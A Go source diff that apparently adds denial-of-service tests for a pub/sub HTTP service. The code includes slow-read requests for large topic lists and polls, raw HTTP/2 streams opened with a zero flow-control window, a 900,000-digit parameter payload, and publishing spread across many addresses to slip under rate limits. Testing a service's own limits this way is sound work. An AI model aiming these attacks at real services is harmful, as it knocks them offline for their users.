@@ -1,0 +1,108 @@
+package main
+
+import (
+	"context"
+	"encoding/binary"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"strings"
+	"sync"
+)
+
+// The attacks of this file ask for long answers and do not read them.
+
+// unreadLists asks for pages of topics, about 870 bytes for each topic.
+func unreadLists(ctx context.Context, r *raid) error {
+	if err := r.fill(ctx, longNames()); err != nil {
+		return err
+	}
+	return r.leaveUnread(ctx, get(listPath))
+}
+
+// unreadLists2 asks for the same over HTTP/2, in streams whose window is 0.
+func unreadLists2(ctx context.Context, r *raid) error {
+	const streams = 100
+	if err := r.fill(ctx, longNames()); err != nil {
+		return err
+	}
+	return r.leaveUnread(ctx, http2Gets(listPath, streams))
+}
+
+// unreadPolls asks for as many messages as an answer holds.
+func unreadPolls(ctx context.Context, r *raid) error {
+	const messages, size = 1000, 230
+	items := make([]string, messages)
+	for i := range items {
+		items[i] = `{"topic":"abuse.unread","data":"` + string(filling(size)) + `"}`
+	}
+	if err := r.fill(ctx, items); err != nil {
+		return err
+	}
+	return r.leaveUnread(ctx, get("/v1/poll?topic=abuse.unread@oldest"))
+}
+
+// hugePositions sends positions that cannot be read, to be told so at length.
+func hugePositions(ctx context.Context, r *raid) error {
+	const digits = 900_000
+	return r.leaveUnread(ctx, sendJSON(http.MethodPost, "/v1/poll", `{"topics":["abuse.quiet@k3:`+strings.Repeat("9", digits)+`"]}`))
+}
+
+// leaveUnread sends a request on each connection of the crowd, and reads nothing.
+func (r *raid) leaveUnread(ctx context.Context, request []byte) error {
+	r.stand(ctx, func(int) stance { return stance{say: request, silent: true} })
+	return nil
+}
+
+// listPath is that of the longest list of topics.
+const listPath = "/v1/topics?limit=1000"
+
+// longNames are publishes to topics whose names are as long as they may be.
+func longNames() []string {
+	const topics, longest = 1000, 255
+	items := make([]string, topics)
+	for i := range items {
+		name := fmt.Sprintf("abuse.list.%d.", i)
+		items[i] = `{"topic":"` + name + strings.Repeat("x", longest-len(name)) + `","data":1}`
+	}
+	return items
+}
+
+// fill publishes items, from as many addresses as it takes to stay within their rates.
+func (r *raid) fill(ctx context.Context, items []string) error {
+	const atOnce = 100 // see limits.yaml
+	faults := make([]error, (len(items)+atOnce-1)/atOnce)
+	var all sync.WaitGroup
+	for part := range faults {
+		some := items[part*atOnce : min((part+1)*atOnce, len(items))]
+		request := sendJSON(http.MethodPost, "/v1/messages", "["+strings.Join(some, ",")+"]")
+		all.Go(func() { faults[part] = r.begin(ctx, part, request, new(json.RawMessage)) })
+	}
+	all.Wait()
+	return errors.Join(faults...)
+}
+
+// http2Gets opens a connection for HTTP/2 without TLS (RFC 9113), on which nothing may be
+// sent in a stream, and asks for path in so many streams.
+func http2Gets(path string, streams int) []byte {
+	const (
+		settings, headers     = 4, 1
+		initialWindow         = 4
+		endsStream, endsBlock = 1, 4
+		methodGet, schemeHTTP = 0x82, 0x86 // of HPACK's static table (RFC 7541, appendix A)
+		pathIs, authorityIs   = 0x04, 0x01
+	)
+	b := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+	frame := func(kind, flags byte, stream uint32, payload []byte) {
+		b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
+		b = append(binary.BigEndian.AppendUint32(b, stream), payload...)
+	}
+	text := func(name byte, value string) string { return string([]byte{name, byte(len(value))}) + value }
+	frame(settings, 0, 0, binary.BigEndian.AppendUint32([]byte{0, initialWindow}, 0))
+	head := []byte(string([]byte{methodGet, schemeHTTP}) + text(pathIs, path) + text(authorityIs, "abuse"))
+	for i := range streams {
+		frame(headers, endsStream|endsBlock, uint32(2*i+1), head)
+	}
+	return b
+}
